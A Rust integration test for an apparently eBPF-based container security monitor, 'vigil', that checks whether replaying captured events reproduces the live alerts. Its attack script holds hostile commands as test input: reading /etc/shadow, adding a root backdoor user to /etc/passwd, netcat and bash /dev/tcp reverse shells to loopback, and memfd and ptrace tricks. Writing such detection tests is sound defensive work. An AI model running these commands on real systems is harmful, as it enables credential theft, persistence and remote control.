//! A capture reproduces the live alerts: `vigil capture` (binary and JSON Lines, two captures
//! at once) and `vigil monitor --json` watch the same real container doing a series of
//! attack steps; `vigil replay FILE --json` of each capture must raise, for that container,
//! the alerts the monitor raised: same rules, same outputs, same output fields.
//!
//! What legitimately differs, and is compared loosely: `time`. Each sensor stamps an event
//! when its own eBPF program runs on the tracepoint (the programs of the three sensors run
//! one after the other) and converts boot time to wall time with an offset it measured at
//! its start, so the same syscall gets times a few microseconds apart in each; they must
//! agree within 10 ms. Everything else (process, parent, user and container fields, event
//! arguments, hostname, tags, priority) is compared exactly.
//!
//! Needs root, BTF and podman (else `SKIP:`); shares the harness in `common/mod.rs`.

mod common;

use common::{
    field, in_container, json_lines, require, reverse_shell_listener, run_vigil, serial, unique,
    Containers, Vigil, MEMFD_EXEC_PY, PTRACE_ATTACH_PY,
};
use serde_json::Value;
use std::path::Path;
use std::time::Duration;

/// The rules the attack script raises live (a replay must raise them too, and no others).
const EXPECTED: &[&str] = &[
    "Password database or sudo configuration read",
    "Dropped binary executed in container",
    "Write below binary directory in container",
    "Write below /etc in container",
    "Netcat or socat executing a program",
    "Kernel core_pattern or usermode helper modified",
    "Kernel module loaded from container",
    "Fileless execution from memory",
    "Process attached to another with ptrace",
    "Shell spawned in container",
    "Standard stream redirected to network socket",
];

/// One container, one step per line: reads, writes, execs, a refused open, a call refused by
/// seccomp, a memfd exec, ptrace, a reverse shell to `port` on 127.0.0.3.
fn attack_script(port: u16) -> String {
    format!(
        "cat /etc/shadow > /dev/null
cp /bin/true /opt/dropped && /opt/dropped
touch /bin/evil
echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd
nc -e /bin/sh 127.0.0.1 9 2> /dev/null
cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern
python3 -c \"import ctypes; ctypes.CDLL(None).syscall(313, -1, b'', 0)\"
python3 -c \"{MEMFD_EXEC_PY}\"
python3 -c \"{PTRACE_ATTACH_PY}\"
python3 -c \"import subprocess; subprocess.run(['sh', '-c', 'true'])\"
bash -c 'bash -i >& /dev/tcp/127.0.0.3/{port} 0>&1'
"
    )
}

/// `(date, nanoseconds into the day)` of an RFC 3339 UTC time with nanoseconds.
fn day_ns(t: &str) -> (String, i64) {
    let (date, time) = t.trim_end_matches('Z').split_once('T').expect("RFC 3339");
    let (hms, frac) = time.split_once('.').unwrap_or((time, "0"));
    let secs = hms
        .split(':')
        .fold(0i64, |acc, p| acc * 60 + p.parse::<i64>().expect("time"));
    let nanos: i64 = format!("{frac:0<9}")[..9].parse().expect("fraction");
    (date.to_string(), secs * 1_000_000_000 + nanos)
}

/// The alert without its time, as canonical JSON text.
fn timeless(a: &Value) -> String {
    let mut a = a.clone();
    a.as_object_mut().expect("alert object").remove("time");
    a.to_string()
}

/// Asserts that `replayed` equals `live` apart from times within 10 ms.
fn assert_same_alerts(what: &str, live: &[Value], replayed: &[Value]) {
    let mut l: Vec<(String, &Value)> = live.iter().map(|a| (timeless(a), a)).collect();
    let mut r: Vec<(String, &Value)> = replayed.iter().map(|a| (timeless(a), a)).collect();
    l.sort_by(|a, b| a.0.cmp(&b.0));
    r.sort_by(|a, b| a.0.cmp(&b.0));
    let ls: Vec<&str> = l.iter().map(|x| x.0.as_str()).collect();
    let rs: Vec<&str> = r.iter().map(|x| x.0.as_str()).collect();
    assert_eq!(
        ls, rs,
        "{what}: replayed alerts differ from the live ones (left live, right replay)"
    );
    for ((_, a), (_, b)) in l.iter().zip(&r) {
        let (da, ta) = day_ns(a["time"].as_str().unwrap());
        let (db, tb) = day_ns(b["time"].as_str().unwrap());
        assert!(
            da == db && (ta - tb).abs() < 10_000_000,
            "{what}: times too far apart: live {} replay {} ({})",
            a["time"],
            b["time"],
            a["rule"]
        );
    }
}

/// The final counters line of a stopped `vigil` if it reports lost events.
fn losses(stderr: &[String]) -> Option<String> {
    let fin = stderr
        .iter()
        .find(|l| l.contains("final:"))
        .expect("final line");
    (!fin.contains("dropped 0 (")).then(|| fin.clone())
}

fn replay(file: &Path, container: &str) -> Vec<Value> {
    let out = run_vigil(&["replay", file.to_str().unwrap(), "--json"]);
    json_lines(&out)
        .into_iter()
        .filter(|a| in_container(a, container))
        .collect()
}

#[test]
fn replay_of_live_captures_raises_the_live_alerts() {
    require!(true);
    let _g = serial();
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("attack.vcap");
    let jsonl = dir.path().join("attack.jsonl");
    let port = reverse_shell_listener("127.0.0.3");

    // Large rings: three sensors share the machine with whatever else runs on it.
    let ring = ["--ring-buffer-mb", "64"];
    let cap = |file: &Path| {
        let file = file.to_str().unwrap();
        Vigil::start(&[&["capture", "-o", file][..], &ring].concat(), "capturing")
    };
    let cap_bin = cap(&bin);
    let cap_jsonl = cap(&jsonl);
    let m = Vigil::monitor(&ring);
    let c = unique("capture");
    let mut containers = Containers::default();
    containers.run(
        &c,
        &["--network=host"],
        &["bash", "-c", &attack_script(port)],
    );
    for rule in EXPECTED {
        m.expect(rule, Duration::from_secs(60), |a| in_container(a, &c));
    }
    // Stopped now, the captures still write every event the kernel queued for them before.
    let mut lost: Vec<String> = [cap_bin.stop(), cap_jsonl.stop()]
        .iter()
        .filter_map(|l| losses(l))
        .collect();
    let live = m.alerts_for_container(&c);
    lost.extend(losses(&m.stop()));

    let mut rules: Vec<&str> = live.iter().map(|a| a["rule"].as_str().unwrap()).collect();
    rules.sort();
    rules.dedup();
    for rule in EXPECTED {
        assert!(rules.contains(rule), "'{rule}' not raised live: {rules:?}");
    }
    // The memfd case keeps a key field that only the capture's exec flags carry.
    assert!(live
        .iter()
        .any(|a| field(a, "proc.exepath").contains("memfd:payload")));

    // Both formats: the binary one starts with its magic, the other is JSON text.
    let head = std::fs::read(&bin).unwrap();
    assert!(head.starts_with(b"\x89VIGIL\r\n"), "not a binary capture");
    let text = std::fs::read_to_string(&jsonl).unwrap();
    let first: Value = serde_json::from_str(text.lines().next().unwrap()).expect("JSON Lines");
    assert!(first.get("host").is_some(), "first record: {first}");

    let from_bin = replay(&bin, &c);
    let from_jsonl = replay(&jsonl, &c);
    if !lost.is_empty() {
        // Not the same event stream any more: equality cannot be expected (CI runs the tests
        // one at a time and loses nothing).
        eprintln!(
            "NOTE: replay equality not checked: events were lost under load:\n{}",
            lost.join("\n")
        );
        return;
    }
    assert_same_alerts("binary capture", &live, &from_bin);
    assert_same_alerts("JSON Lines capture", &live, &from_jsonl);
}
